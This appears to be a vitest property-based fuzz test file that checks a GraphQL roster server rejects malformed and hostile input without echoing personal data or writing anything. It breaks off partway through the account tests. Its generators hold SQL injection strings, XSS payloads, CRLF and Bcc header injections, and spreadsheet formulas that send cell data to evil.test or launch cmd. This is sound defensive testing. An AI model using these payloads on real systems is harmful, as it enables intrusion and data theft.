import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { ALL_ERROR_CODES, ERROR_CODES, formatNip } from '@lintas/shared';
import { adminClient } from '../support/auth.js';
import { DEMO, startServer, type Client, type GqlResult, type RunningServer } from '../support/server.js';

/**
 * Issue 19, part 6: generated bad input through every mutation that takes personal data
 * (a NIP, a name, an e-mail, a phone, a date, a CSV). Each input gets a coded error; none
 * is echoed as a NIP, none shows a stack or SQL, none gives a 500, and nothing is written.
 *
 * The seed is fixed (LINTAS_FC_SEED overrides it) so a failure replays; every property
 * names its runs and its inputs per run, and the last test adds them up (≥ 10,000).
 */
const SEED = Number(process.env.LINTAS_FC_SEED ?? 190_619);
const INPUTS_REQUIRED = 10_000;
let inputsSent = 0;

// ---------------------------------------------------------------------------------------------
// Generators

const goodNip = fc
  .record({ y: fc.integer({ min: 1960, max: 2003 }), m: fc.integer({ min: 0, max: 11 }), d: fc.integer({ min: 1, max: 28 }), s: fc.integer({ min: 0, max: 999 }), g: fc.constantFrom('MALE' as const, 'FEMALE' as const) })
  .map(({ y, m, d, s, g }) => formatNip({ birth: new Date(Date.UTC(y, m, d)), appointment: new Date(Date.UTC(y + 21, m, 1)), gender: g, serial: s }));

const SQL = [`' OR '1'='1`, `'; DROP TABLE person;--`, `1 UNION SELECT password_hash FROM account--`, `"); DELETE FROM enrollment; --`, `\\'; select pg_sleep(5);--`, `0x1e3`, `1e17`];
const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad'];
/** Digits of other scripts that `\d` must not take for ASCII digits: full-width, Arabic-Indic, Devanagari, mathematical bold. */
const OTHER_DIGITS = [0xff10, 0x0660, 0x0966, 0x1d7ce];
const otherDigits = (s: string, base: number) => [...s].map((c) => (/\d/.test(c) ? String.fromCodePoint(base + Number(c)) : c)).join('');
const at = (s: string, i: number, put: string, drop = 0) => s.slice(0, i) + put + s.slice(i + drop);

/** A NIP wrong in one of the ways people (or attackers) get it wrong; never valid after trimming. */
const badNip: fc.Arbitrary<string> = fc.oneof(
  fc.stringMatching(/^\d{0,17}$/),
  fc.stringMatching(/^\d{19,30}$/),
  fc.tuple(goodNip, fc.integer({ min: 0, max: 17 }), fc.constantFrom('a', 'O', 'l', 'x', '-', ' ', '.', '/', 'E')).map(([n, i, c]) => at(n, i, c, 1)),
  fc.tuple(goodNip, fc.constantFrom(...OTHER_DIGITS), fc.boolean()).map(([n, base, all]) => (all ? otherDigits(n, base) : at(n, 9, otherDigits(n[9]!, base), 1))),
  fc.tuple(goodNip, fc.integer({ min: 1, max: 17 }), fc.constantFrom(...ZERO_WIDTH, '\u0000', '\u202e', '\r\n', '\t')).map(([n, i, c]) => at(n, i, c)),
  fc.tuple(goodNip, fc.constantFrom(...SQL), fc.boolean()).map(([n, sql, before]) => (before ? sql + n : n + sql)),
  fc.constantFrom(...SQL),
  // Impossible birth dates: month 00 or 13, day 00 or 32, 30 February, year before 1900.
  fc.tuple(goodNip, fc.constantFrom('0013', '0000', '1301', '0231', '0230', '0132', '0431', '0100')).map(([n, md]) => at(n, 4, md, 4)),
  goodNip.map((n) => at(n, 0, '1899', 4)),
  goodNip.map((n) => at(n, 0, '0000', 4)),
  // The gender digit (15th) other than 1 or 2, an appointment month 00/13 or before birth.
  fc.tuple(goodNip, fc.constantFrom('0', '3', '5', '9')).map(([n, g]) => at(n, 14, g, 1)),
  fc.tuple(goodNip, fc.constantFrom('00', '13', '99')).map(([n, m]) => at(n, 12, m, 2)),
  goodNip.map((n) => at(n, 8, '1950', 4)),
);

const FORMULA_PREFIX = ['=', '+', '-', '@', '\t=', '\r='];
const FORMULA_BODY = [`cmd|' /C calc'!A0`, `HYPERLINK("http://evil.test/?x="&A1,"klik")`, `1+1`, `SUM(A1:A9)`, `IMPORTXML(CONCAT("http://evil.test/",A2),"//a")`, `DDE("cmd";"/C calc";"!A0")`];
/** Text no name, title or reason may be: a formula, control characters, lone surrogates, bidi overrides, blank or too long. */
const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(fc.constantFrom(...FORMULA_PREFIX), fc.constantFrom(...FORMULA_BODY)).map(([p, b]) => p + b),
  fc.tuple(fc.constantFrom('Siti Aminah', 'Budi Santoso'), fc.constantFrom('\u0000', '\u0007', '\u001b[31m', '\u0008', '\u007f', '\u009b', '\r\nX-Injected: 1', '\n')).map(([n, c]) => `${n.slice(0, 4)}${c}${n.slice(4)}`),
  fc.tuple(fc.constantFrom('Siti Aminah', 'Budi Santoso'), fc.constantFrom('\ud800', '\udfff', '\udc00x')).map(([n, c]) => n + c),
  fc.tuple(fc.constantFrom('Siti Aminah', 'Budi Santoso'), fc.constantFrom('\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f\u202e')).map(([n, c]) => `${c}${n}`),
  fc.integer({ min: 2_501, max: 10_000 }).map((n) => 'Ab'.repeat(n)),
  fc.constantFrom('', ' ', '\t', '\u3000', '\u00a0\u00a0'),
);

/** Valid-looking text that must be stored as it is, never run: SQL and markup. */
const inertText = fc.constantFrom(`Robert'); DROP TABLE person;--`, `<script>alert(document.cookie)</script>`, `O'Brien " OR ""="`, `Nur; SELECT * FROM account`, `<img src=x onerror=alert(1)>`, `${'${'}7*7}`, `Siti \\' Aminah`);

const badEmail = fc.oneof(
  fc.constantFrom('not-an-email', 'a@b', '@lintas.test', 'a @b.co', 'a@b .co', 'x@y.z\u0000', 'siti@\u202eexample.com', '=HYPERLINK("x")@a.co', '"><script>@a.co', "a'--@b.co\r\nBcc: c@d.co"),
  fc.integer({ min: 190, max: 3000 }).map((n) => `${'a'.repeat(n)}@lintas.test`),
);
const badPhone = fc.oneof(
  fc.constantFrom('abc', '12', '+62 812\u0000345', '=1+1', '0812-3456-7890-1234-5678', '0812\r\n3456789', '+62 ٨١٢٣٤٥٦٧', '０８１２３４５６７', '081234567;DROP'),
  fc.stringMatching(/^\d{21,60}$/),
);

/** Date strings that are no instant or no day: impossible, empty, out of range, or with an impossible zone. */
const badDate = fc.constantFrom(
  '2026-02-30T09:00:00Z', '2026-02-30', '0000-00-00', '0000-01-01T00:00:00Z', '9999-99-99', '9999-99-99T99:99:99Z', '2026-13-01T00:00:00+07:00',
  '2026-01-01T25:00:00Z', '2026-01-01T00:00:00+25:00', '', ' ', 'yesterday', '1e10', '2026-W01-1', '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z', '2026-01-01T00:00:00Z\u0000', '2026‐01‐01', '２０２６-01-01', 'NaN', 'null', "2026-01-01'; DROP TABLE session;--",
);

/** Global ids that name nothing one may touch: unreadable, another type, a huge or negative number, SQL, a NIP. */
const b64 = (s: string) => Buffer.from(s).toString('base64url');
const badId: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.constantFrom(...SQL).map(b64),
  fc.constantFrom('Person:-1', 'Person:0', 'Person:999999999999999', 'Person:1e3', 'Person: 1', 'Cohort:1', 'Account:1', 'Person:1;DROP TABLE person', 'Person:\u00001').map(b64),
  goodNip,
  goodNip.map((n) => b64(`Person:${n}`)),
  fc.integer({ min: 100_000, max: 2_000_000_000 }).map((n) => b64(`Person:${n}`)),
);

const ROSTER_HEADER = ['nip', 'name', 'employment_type', 'position_type', 'eselon', 'job_title', 'agency_code'] as const;
type RosterCells = Record<(typeof ROSTER_HEADER)[number], string>;

/** A roster row with exactly one fault (so no row of a generated file is ever written). */
function badRosterRow(agencyCode: string): fc.Arbitrary<RosterCells> {
  const base = (nip: string): RosterCells => ({ nip, name: 'Siti Aminah', employment_type: 'PNS', position_type: 'FUNGSIONAL', eselon: '', job_title: 'Analis', agency_code: agencyCode });
  return fc.oneof(
    fc.tuple(goodNip, badNip).map(([n, bad]) => ({ ...base(n), nip: bad })),
    fc.tuple(goodNip, hostileText).map(([n, t]) => ({ ...base(n), name: t })),
    fc.tuple(goodNip, hostileText.filter((t) => t.trim() !== '')).map(([n, t]) => ({ ...base(n), job_title: t })),
    fc.tuple(goodNip, fc.constantFrom(...SQL, 'P N S', 'PNSX', 'PNS\u0000', 'ＰＮＳ', '=PNS', '')).map(([n, t]) => ({ ...base(n), employment_type: t })),
    fc.tuple(goodNip, fc.constantFrom(...SQL, 'STRUKTURALX', '=1', '')).map(([n, t]) => ({ ...base(n), position_type: t })),
    fc.tuple(goodNip, fc.constantFrom('V', 'IIc', 'Ⅱa', '=IIa', "IIa'--", 'IIa\u0000')).map(([n, t]) => ({ ...base(n), position_type: 'STRUKTURAL', eselon: t })),
    fc.tuple(goodNip, fc.constantFrom('', ' ')).map(([n, t]) => ({ ...base(n), agency_code: t })),
  );
}

const cell = (v: string, d: string) => (v.includes(d) || v.includes('"') || v.includes('\n') || v.includes('\r') ? `"${v.replace(/"/g, '""')}"` : v);
const csvOf = (header: readonly string[], rows: string[][], d = ',') => [header.join(d), ...rows.map((r) => r.map((v) => cell(v, d)).join(d))].join('\n');

/** A roster file that cannot be imported in full: bad rows, broken quoting, mixed delimiters, wrong encodings, bad headers. */
function badRosterCsv(agencyCode: string): fc.Arbitrary<{ csv: string; nips: string[] }> {
  const rows = fc.array(badRosterRow(agencyCode), { minLength: 1, maxLength: 20 });
  const plain = (d: string) => rows.map((rs) => ({ csv: csvOf(ROSTER_HEADER, rs.map((r) => ROSTER_HEADER.map((c) => r[c])), d), nips: rs.map((r) => r.nip) }));
  return fc.oneof(
    plain(','),
    plain(';'),
    plain(',').map(({ csv, nips }) => ({ csv: csv.replace(/\n/g, '\r\n'), nips })),
    // An unterminated quote, a quote inside an unquoted cell, a stray quote after a closed one.
    fc.tuple(plain(','), fc.constantFrom('"unterminated,', 'ab"c,d', '"a"b,c', '"\n')).map(([f, broken]) => ({ csv: `${f.csv}\n${broken}${f.nips[0]},x,PNS`, nips: f.nips })),
    // Header with commas, rows with semicolons.
    rows.map((rs) => ({ csv: [ROSTER_HEADER.join(','), ...rs.map((r) => ROSTER_HEADER.map((c) => cell(r[c], ';')).join(';'))].join('\n'), nips: rs.map((r) => r.nip) })),
    // UTF-16 bytes read as Latin-1 / UTF-8 text; Latin-1 bytes read as UTF-8.
    fc.tuple(plain(','), fc.constantFrom('utf16le-latin1', 'utf16le-utf8', 'latin1-utf8')).map(([f, how]) => {
      const [from, to] = how.split('-') as [BufferEncoding, BufferEncoding];
      return { csv: Buffer.from(`\ufeff${f.csv}`, from === 'latin1' ? 'latin1' : 'utf16le').toString(to), nips: f.nips };
    }),
    // A byte-order mark in the middle of the file.
    fc.tuple(plain(','), fc.nat()).map(([f, i]) => ({ csv: at(f.csv, i % (f.csv.length + 1), '\ufeff'), nips: f.nips })),
    // A required column missing, or every column twice.
    fc.tuple(rows, fc.constantFrom('nip', 'name', 'employment_type', 'position_type', 'agency_code')).map(([rs, drop]) => {
      const header = ROSTER_HEADER.filter((c) => c !== drop);
      return { csv: csvOf(header, rs.map((r) => header.map((c) => r[c]))), nips: rs.map((r) => r.nip) };
    }),
    rows.map((rs) => ({ csv: csvOf([...ROSTER_HEADER, ...ROSTER_HEADER], rs.map((r) => [...ROSTER_HEADER.map((c) => r[c]), ...ROSTER_HEADER.map((c) => r[c])])), nips: rs.map((r) => r.nip) })),
    // Very many columns.
    fc.tuple(rows, fc.integer({ min: 500, max: 5_000 })).map(([rs, n]) => {
      const extra = Array.from({ length: n }, (_, i) => `x${i}`);
      return { csv: csvOf([...ROSTER_HEADER, ...extra], rs.map((r) => [...ROSTER_HEADER.map((c) => r[c]), ...extra.map(() => '=1+1')])), nips: rs.map((r) => r.nip) };
    }),
    // Nothing to import.
    fc.constantFrom('', '\ufeff', '\n\n\n', ROSTER_HEADER.join(','), `${ROSTER_HEADER.join(',')}\n\n`, '\u0000\u0000', 'nip\tname\temployment_type').map((csv) => ({ csv, nips: [] })),
  );
}

function badAssessmentCsv(nips: string[]): fc.Arbitrary<{ csv: string; nips: string[] }> {
  const row = fc.oneof(
    fc.tuple(badNip, fc.constantFrom('PRE', 'POST'), fc.integer({ min: 0, max: 100 })).map(([n, k, s]) => [n, k, String(s)]),
    fc.tuple(fc.constantFrom(...nips), fc.constantFrom('pre-test', 'MID', '', '=PRE', "PRE'--"), fc.integer({ min: 0, max: 100 })).map(([n, k, s]) => [n, k, String(s)]),
    fc.tuple(fc.constantFrom(...nips), fc.constantFrom('PRE', 'POST'), fc.constantFrom('-1', '101', '1e3', '70.5', 'abc', '', '=1+1', '９０', '99999999999999999999', 'NaN', '0x40')).map(([n, k, s]) => [n, k, s]),
  );
  const rows = fc.array(row, { minLength: 1, maxLength: 15 });
  return fc.oneof(
    rows.map((rs) => ({ csv: csvOf(['nip', 'kind', 'score'], rs), nips: rs.map((r) => r[0]!) })),
    rows.map((rs) => ({ csv: csvOf(['nip', 'score'], rs.map((r) => [r[0]!, r[2]!])), nips: rs.map((r) => r[0]!) })),
    rows.map((rs) => ({ csv: `${csvOf(['nip', 'kind', 'score'], rs)}\n"${rs[0]![0]},PRE,50`, nips: rs.map((r) => r[0]!) })),
    rows.map((rs) => ({ csv: Buffer.from(csvOf(['nip', 'kind', 'score'], rs), 'utf16le').toString('latin1'), nips: rs.map((r) => r[0]!) })),
    fc.constantFrom('', 'nip,kind,score', '\ufeff\n', 'nip;kind;score\n"1;PRE;50').map((csv) => ({ csv, nips: [] })),
  );
}

// ---------------------------------------------------------------------------------------------
// What every answer must be

/** Codes an answer may carry: the shared list (not server/internal) and GraphQL over HTTP's own for variables that do not fit their type. */
const CODES = new Set<string>([...ALL_ERROR_CODES.filter((c) => c !== ERROR_CODES.INTERNAL), 'BAD_USER_INPUT']);
/** A stack frame, a source file, the driver or SQL text. */
const LEAKS = /\bat [\w$.<>]+ \(|\bat (file:|node:|\/)|\.[cm]?[jt]s:\d+|node_modules|sqlite|SQLITE_|syntax error|\bselect\b[\s\S]*\bfrom\b|\binsert into\b|\bdelete from\b|\bupdate \w+ set\b|relation "|violates|duplicate key|constraint|TypeError|ReferenceError|undefined|\[object Object\]/i;

let server: RunningServer;
let organizer: Client;
let admin: Client;
let fixture: {
  agencyId: string; agencyCode: string; academyId: string; personId: string; personVersion: number; personNips: string[];
  cohortId: string; facilitatorId: string; facilitatorVersion: number; pairId: string | null;
};

/** The errors of an answer: top-level ones and those of every payload (`errors`, `rowErrors`), flattened. */
function allErrors(res: GqlResult<any>): { code?: string; message?: string; field?: string | null }[] {
  const out: { code?: string; message?: string; field?: string | null }[] = (res.errors ?? []).map((e) => ({ code: e.extensions?.code, message: e.message }));
  for (const payload of Object.values(res.data ?? {}) as any[]) {
    for (const e of [...(payload?.errors ?? []), ...(payload?.rowErrors ?? [])]) out.push(e);
  }
  return out;
}

/** Texts that must never come back: a NIP as sent, its digits alone, and any run of 15+ digits in what was sent. */
function secretsOf(sent: string[]): string[] {
  const out = new Set<string>();
  for (const s of sent) {
    if (s.length >= 8) out.add(JSON.stringify(s).slice(1, -1));
    const digits = s.replace(/\D/g, '');
    if (digits.length >= 15) out.add(digits.slice(0, 18));
    for (const run of s.match(/\d{15,}/g) ?? []) out.add(run.slice(0, 18));
  }
  return [...out];
}

/** One answer: no 500, JSON, every error coded, nothing leaked, no NIP or personal value echoed. */
function expectClean(res: GqlResult<any>, personal: string[]) {
  expect(res.status, JSON.stringify(res)).toBeLessThan(500);
  const errors = allErrors(res);
  for (const e of errors) {
    expect(CODES.has(e.code ?? ''), `uncoded error ${JSON.stringify(e)}`).toBe(true);
    expect(`${e.message ?? ''} ${e.field ?? ''}`, 'error text leaks internals').not.toMatch(LEAKS);
  }
  const text = JSON.stringify({ errors: res.errors, data: res.data });
  for (const secret of secretsOf(personal)) expect(text.includes(secret), `echoes a personal value: ${JSON.stringify(secret.slice(0, 40))}`).toBe(false);
}

/** Every aliased field was refused: a coded top-level error for it, or its payload's errors. */
function expectEachRefused(res: GqlResult<any>, keys: string[], inputs: unknown[] = [], count: (payload: any) => number = (p) => p.errors.length) {
  if (!res.data) {
    expect(res.errors?.length, JSON.stringify(res)).toBeGreaterThan(0);
    return;
  }
  for (const key of keys) {
    const payload = res.data[key];
    const refused = payload == null ? (res.errors ?? []).some((e: any) => e.path?.[0] === key) : count(payload) > 0;
    expect(refused, `${key} was not refused: ${JSON.stringify(payload)?.slice(0, 300)}; input ${JSON.stringify(inputs[keys.indexOf(key)])?.slice(0, 300)}`).toBe(true);
  }
}

// ---------------------------------------------------------------------------------------------
// Nothing half-written: a fingerprint of every table that holds data

let db: { execute: (sql: string, params?: unknown[]) => Promise<any[]>; close: () => Promise<void>; postgres: boolean };
let tables: { name: string; updated: boolean }[] = [];
/** Tables a refused call may write to: the audit trail (checked below), sessions, rate buckets, change marks. */
const BOOKKEEPING = new Set(['audit_event', 'auth_session', 'rate_bucket', 'data_version', 'data_version_mark', 'academy_version', 'mikro_orm_migrations']);

async function openDb(url: string) {
  const { openOrm } = await import(new URL('../../server/dist/database.js', import.meta.url).href);
  const { databaseConfig } = await import(new URL('../../server/dist/config.js', import.meta.url).href);
  const orm = await openOrm(databaseConfig({ DATABASE_URL: url }));
  const conn = orm.em.getConnection();
  const postgres = url.startsWith('postgres');
  db = { execute: (sql, params = []) => conn.execute(sql, params, 'all'), close: () => orm.close(), postgres };
  const names = (await db.execute(postgres
    ? `select tablename as name from pg_tables where schemaname = current_schema() order by 1`
    : `select name from sqlite_master where type = 'table' and name not like 'sqlite_%' order by 1`)).map((r) => String(r.name));
  tables = [];
  for (const name of names.filter((n) => !BOOKKEEPING.has(n))) {
    const columns = (await db.execute(postgres
      ? `select column_name as name from information_schema.columns where table_schema = current_schema() and table_name = ?`
      : `select name from pragma_table_info(?)`, [name])).map((r) => String(r.name));
    tables.push({ name, updated: columns.includes('updated_at') });
  }
}

/** Row count and latest change of each data table, and how many mutations the trail records as done. */
async function fingerprint(): Promise<Record<string, string>> {
  const parts = tables.map((t) => `select '${t.name}' as t, count(*) as n, ${t.updated ? 'max(updated_at)' : 'null'} as u from ${db.postgres ? `"${t.name}"` : t.name}`);
  const rows = await db.execute(parts.join(' union all '));
  const out: Record<string, string> = {};
  for (const r of rows) out[r.t] = `${r.n}@${r.u instanceof Date ? r.u.toISOString() : r.u}`;
  // Imports report refused rows in rowErrors, not errors: the trail calls them done, so they are left out here (their rows are counted above).
  const [done] = await db.execute(`select count(*) as n from audit_event where action like 'mutation.%' and action not in ('mutation.importPersons', 'mutation.upsertPersons', 'mutation.importAgencies') and (cast(details as text) like ? or cast(details as text) like ?)`, ['%"ok":true%', '%"ok": true%']);
  out['audit_event (done)'] = String(done.n);
  return out;
}

/** Runs a property whose every input is refused and checks afterwards that no table changed. */
async function property<T>(name: string, arb: fc.Arbitrary<T>, runs: number, inputsPerRun: number, check: (value: T) => Promise<void>) {
  const before = await fingerprint();
  const out = await fc.check(fc.asyncProperty(arb, check), { numRuns: runs, seed: SEED, endOnFailure: true });
  if (out.failed) {
    // The counterexample may hold megabytes: its start, the assertion and the server's own account of it.
    const example = JSON.stringify(out.counterexample).slice(0, 1500);
    const logged = server.output().split('\n').filter((l) => /unexpected|Error|error:/.test(l)).slice(-8).join('\n').slice(0, 3000);
    throw new Error(`${name} failed (seed ${SEED}, path ${out.counterexamplePath}): ${String((out.errorInstance as Error)?.message ?? out.errorInstance).slice(0, 1500)}\ncounterexample: ${example}\nserver log: ${logged}`);
  }
  inputsSent += runs * inputsPerRun;
  expect(await fingerprint(), `${name} wrote something`).toEqual(before);
}

const aliases = (n: number) => Array.from({ length: n }, (_, i) => `m${i}`);

beforeAll(async () => {
  server = await startServer({ seed: 'demo', env: { LINTAS_QUERY_BUDGET: '100000000', LINTAS_QUERY_BUDGET_PER_SECOND: '1000000' } });
  [organizer, admin] = await Promise.all([server.signIn(...DEMO.organizerBabel), adminClient(server).then((a) => a.client)]);
  await openDb(server.databaseUrl);
  const r = await organizer.gql(`{
    viewer { academy { id } }
    agencies(first: 1) { nodes { id code } }
    persons(first: 5) { nodes { id version nip } }
    cohorts(first: 50) { nodes { id status } }
    facilitators(first: 1) { nodes { id version } }
  }`);
  expect(r.errors).toBeUndefined();
  const cohorts = r.data.cohorts.nodes as { id: string; status: string }[];
  let pairId: string | null = null;
  for (const c of cohorts) {
    const p = await organizer.gql(`query($c: ID!) { mentoringPairs(cohortId: $c, first: 1) { nodes { id } } }`, { c: c.id });
    pairId = p.data?.mentoringPairs?.nodes?.[0]?.id ?? null;
    if (pairId) break;
  }
  fixture = {
    academyId: r.data.viewer.academy.id,
    agencyId: r.data.agencies.nodes[0].id, agencyCode: r.data.agencies.nodes[0].code,
    personId: r.data.persons.nodes[0].id, personVersion: r.data.persons.nodes[0].version,
    personNips: r.data.persons.nodes.map((p: { nip: string }) => p.nip),
    cohortId: (cohorts.find((c) => c.status === 'OPEN') ?? cohorts.find((c) => c.status === 'RUNNING') ?? cohorts[0]!).id,
    facilitatorId: r.data.facilitators.nodes[0].id, facilitatorVersion: r.data.facilitators.nodes[0].version,
    pairId,
  };
}, 180_000);

afterAll(async () => {
  await db?.close();
  await server?.stop();
});

// ---------------------------------------------------------------------------------------------
// The roster

describe('the roster refuses bad people', () => {
  it('createPerson: bad NIPs, hostile names and titles, bad e-mails and phones (15 per request)', async () => {
    const input = fc.oneof(
      fc.tuple(badNip, fc.option(inertText)).map(([nip, name]) => ({ nip, name: name ?? 'Siti Aminah' })),
      fc.tuple(goodNip, hostileText).map(([nip, name]) => ({ nip, name })),
      fc.tuple(goodNip, hostileText.filter((t) => t.trim() !== '')).map(([nip, position]) => ({ nip, name: 'Siti Aminah', position })),
      fc.tuple(goodNip, badEmail).map(([nip, email]) => ({ nip, name: 'Siti Aminah', email })),
      fc.tuple(goodNip, badPhone).map(([nip, phone]) => ({ nip, name: 'Siti Aminah', phone })),
    ).map((i) => ({ agencyId: fixture.agencyId, employmentType: 'PNS', positionType: 'FUNGSIONAL', ...i }));
    const keys = aliases(15);
    const query = `mutation(${keys.map((k) => `$${k}: CreatePersonInput!`).join(' ')}) { ${keys.map((k) => `${k}: createPerson(input: $${k}) { person { id } errors { code field message } }`).join(' ')} }`;
    await property('createPerson', fc.array(input, { minLength: 15, maxLength: 15 }), 70, 15, async (inputs) => {
      const res = await organizer.gql(query, Object.fromEntries(keys.map((k, i) => [k, inputs[i]])));
      expectClean(res, inputs.flatMap((i) => [i.nip, (i as any).email ?? '', (i as any).phone ?? '']));
      expectEachRefused(res, keys, inputs);
    });
  });

  it('updatePerson: hostile names and titles, bad e-mails and phones, bad agencies and superiors (15 per request)', async () => {
    const input = fc.oneof(
      hostileText.map((name) => ({ name })),
      hostileText.filter((t) => t.trim() !== '').map((position) => ({ position })),
      badEmail.map((email) => ({ email })),
      badPhone.map((phone) => ({ phone })),
      badId.filter((id) => id !== '').map((agencyId) => ({ agencyId })),
      badId.filter((id) => id !== '').map((supervisorId) => ({ supervisorId })),
    ).map((i) => ({ id: fixture.personId, version: fixture.personVersion, ...i }));
    const keys = aliases(15);
    const query = `mutation(${keys.map((k) => `$${k}: UpdatePersonInput!`).join(' ')}) { ${keys.map((k) => `${k}: updatePerson(input: $${k}) { errors { code field message } }`).join(' ')} }`;
    await property('updatePerson', fc.array(input, { minLength: 15, maxLength: 15 }), 50, 15, async (inputs) => {
      const res = await organizer.gql(query, Object.fromEntries(keys.map((k, i) => [k, inputs[i]])));
      expectClean(res, inputs.flatMap((i) => [(i as any).email ?? '', (i as any).phone ?? '', (i as any).supervisorId ?? '']));
      expectEachRefused(res, keys, inputs);
    });
  });

  it('upsertPersons: 60 bad rows per request, each reported', async () => {
    const input = fc.array(badRosterRow(fixture.agencyCode), { minLength: 60, maxLength: 60 }).map((rows) => rows.map((r) => ({
      nip: r.nip, name: r.name, employmentType: r.employment_type, positionType: r.position_type, eselon: r.eselon || null, jobTitle: r.job_title || null, agencyCode: r.agency_code,
    })));
    await property('upsertPersons', input, 40, 60, async (rows) => {
      const res = await organizer.gql(`mutation($i: [PersonInput!]!) { upsertPersons(input: $i) { totalRows rejectedRows created updated rowErrors { row field code message } errors { code field message } } }`, { i: rows });
      expectClean(res, rows.map((r) => r.nip));
      const p = res.data?.upsertPersons;
      if (!p) {
          expect(res.errors?.length).toBeGreaterThan(0);
          return;
        }
      expect(p.created + p.updated).toBe(0);
      if (p.errors.length === 0) {
        // Every row is refused on its own (a row has one fault, so one or more errors).
        expect(new Set(p.rowErrors.map((e: { row: number }) => e.row)).size).toBe(rows.length);
      }
    });
  });

  for (const dryRun of [true, false]) {
    it(`importPersons${dryRun ? ' (dryRun)' : ''}: broken, mis-encoded and hostile CSV files`, async () => {
      await property(`importPersons dryRun=${dryRun}`, badRosterCsv(fixture.agencyCode), 150, 1, async ({ csv, nips }) => {
        const res = await organizer.gql(`mutation($c: String!, $d: Boolean) { importPersons(csv: $c, dryRun: $d) { totalRows validRows rejectedRows created updated rowErrors { row field code message } errors { code field message } } }`, { c: csv, d: dryRun });
        expectClean(res, nips);
        const p = res.data?.importPersons;
        if (!p) {
          expect(res.errors?.length).toBeGreaterThan(0);
          return;
        }
        const seen = JSON.stringify({ answer: p, file: csv.split('\n').map((line) => line.slice(0, 160)) }).slice(0, 1500);
        expect(p.created + p.updated, seen).toBe(0);
        expect(p.errors.length + p.rowErrors.length, seen).toBeGreaterThan(0);
        if (p.errors.length === 0) expect(p.validRows, seen).toBe(0);
      });
    });
  }

  it('addUnavailability: impossible dates, reversed windows, hostile reasons, bad people', async () => {
    const input = fc.oneof(
      fc.tuple(badDate, fc.boolean()).map(([d, first]) => ({ personId: fixture.personId, startsAt: first ? d : '2027-03-01T00:00:00Z', endsAt: first ? '2027-03-02T00:00:00Z' : d })),
      fc.integer({ min: 0, max: 48 * 60 }).map((m) => ({ personId: fixture.personId, startsAt: '2027-03-02T00:00:00Z', endsAt: new Date(Date.parse('2027-03-02T00:00:00Z') - m * 60_000).toISOString() })),
      hostileText.filter((t) => t.trim() !== '').map((reason) => ({ personId: fixture.personId, startsAt: '2027-03-01T00:00:00Z', endsAt: '2027-03-02T00:00:00Z', reason })),
      badId.map((personId) => ({ personId, startsAt: '2027-03-01T00:00:00Z', endsAt: '2027-03-02T00:00:00Z' })),
      badId.map((facilitatorId) => ({ facilitatorId, startsAt: '2027-03-01T00:00:00Z', endsAt: '2027-03-02T00:00:00Z' })),
    );
    await property('addUnavailability', input, 300, 1, async (i) => {
      const res = await organizer.gql(`mutation($i: UnavailabilityInput!) { addUnavailability(input: $i) { errors { code field message } } }`, { i });
      expectClean(res, [i.personId ?? '', (i as any).facilitatorId ?? '']);
      expectEachRefused(res, ['addUnavailability'], [i]);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Scores, enrolment, mentoring

describe('scores, enrolments and meetings refuse bad input', () => {
  it('importAssessments: bad NIPs, kinds and scores, broken files', async () => {
    await property('importAssessments', badAssessmentCsv(fixture.personNips), 200, 1, async ({ csv, nips }) => {
      const res = await organizer.gql(`mutation($c: ID!, $csv: String!) { importAssessments(cohortId: $c, csv: $csv) { assessments { id } errors { code field message } } }`, { c: fixture.cohortId, csv });
      expectClean(res, [...nips, ...fixture.personNips]);
      expectEachRefused(res, ['importAssessments']);
    });
  });

  it('recordAssessments: scores out of range and people who are no one (40 entries per request)', async () => {
    const entry = fc.oneof(
      fc.tuple(badId, fc.integer({ min: 0, max: 100 })).map(([personId, score]) => ({ personId, kind: 'PRE', score })),
      fc.oneof(fc.integer({ min: -2_147_483_648, max: -1 }), fc.integer({ min: 101, max: 2_147_483_647 })).map((score) => ({ personId: fixture.personId, kind: 'POST', score })),
    );
    await property('recordAssessments', fc.array(entry, { minLength: 40, maxLength: 40 }), 30, 40, async (entries) => {
      const res = await organizer.gql(`mutation($c: ID!, $e: [AssessmentEntryInput!]!) { recordAssessments(cohortId: $c, entries: $e) { assessments { id } errors { code field message } } }`, { c: fixture.cohortId, e: entries });
      expectClean(res, entries.map((e) => e.personId));
      expectEachRefused(res, ['recordAssessments']);
    });
  });

  it('enroll: ids that name no one, hostile override reasons (40 ids per request)', async () => {
    const input = fc.record({ personIds: fc.array(badId, { minLength: 40, maxLength: 40 }), overrideReason: fc.option(fc.oneof(hostileText, inertText)) });
    await property('enroll', input, 30, 40, async ({ personIds, overrideReason }) => {
      const res = await organizer.gql(`mutation($i: EnrollInput!) { enroll(input: $i) { enrollments { id } errors { code field message } } }`, { i: { cohortId: fixture.cohortId, personIds, overrideReason } });
      expectClean(res, personIds);
      expectEachRefused(res, ['enroll']);
    });
  });

  it('logMentoringMeeting: impossible dates and hostile topics', async () => {
    if (!fixture.pairId) return;
    const input = fc.oneof(
      badDate.map((date) => ({ date, topic: 'Literasi digital' })),
      hostileText.map((topic) => ({ date: '2026-11-20', topic })),
    );
    const keys = aliases(15);
    const query = `mutation(${keys.map((k) => `$${k}: MeetingInput!`).join(' ')}) { ${keys.map((k) => `${k}: logMentoringMeeting(input: $${k}) { meeting { id } errors { code field message } }`).join(' ')} }`;
    await property('logMentoringMeeting', fc.array(input, { minLength: 15, maxLength: 15 }), 20, 15, async (inputs) => {
      const res = await organizer.gql(query, Object.fromEntries(keys.map((k, i) => [k, { pairId: fixture.pairId, minutes: 60, ...inputs[i] }])));
      expectClean(res, []);
      expectEachRefused(res, keys, inputs);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Accounts, invitations, privacy rights

describe('accounts and privacy rights refuse bad input', () => {
  it('createAccount: hostile names, bad e-mails (15 per request)', async () => {
    const input = fc.oneof(
      hostileText.map((name) => ({ name, email: 'baru@lintas.test' })),
      badEmail.map((email) => ({ name: 'Akun Baru', email })),
    ).map((i) => ({ ...i, role: 'ORGANIZER', academyId: fixture.academyId, password: 'kata-sandi-yang-panjang-2026' }));
    const keys = aliases(15);
